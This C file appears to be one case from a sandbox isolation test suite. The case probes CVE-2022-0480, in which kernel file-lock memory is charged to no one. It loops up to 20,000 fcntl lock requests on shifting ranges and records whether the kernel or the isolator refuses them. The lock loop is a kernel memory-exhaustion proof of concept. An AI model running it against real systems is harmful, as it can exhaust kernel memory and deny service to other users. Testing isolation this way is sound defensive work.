/*
 * attack: 12
 * title: locks of ranges without end (CVE-2022-0480)
 * limits: cpu=20s wall=40s
 * ends: exited 0
 * says: first=ok
 * says: last=ENOLCK
 * isolate-says: first=ok|EPERM
 * isolate-says: last=ok|EPERM
 * isolate-because: since 2.6 it refuses them itself; before, nobody counts them
 *
 * What the kernel keeps of one is charged to nobody (fs/locks.c, filelock_cache). One range over and
 * over: they are counted as they are asked for.
 */
#include "say.h"

int main(void)
{
    int file = open("/w/locked", O_CREAT | O_RDWR, 0600);
    struct flock one = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 0, .l_len = 1 };
    int last = fcntl(file, F_SETLK, &one);
    say("first", last ? errno_name(errno) : "ok");
    for (int i = 0; i < 20000 && !last; i++) {
        one.l_start = 100 + i % 7;
        last = fcntl(file, F_OFD_SETLK, &one);
    }
    say("last", last ? errno_name(errno) : "ok");
    return 0;
}
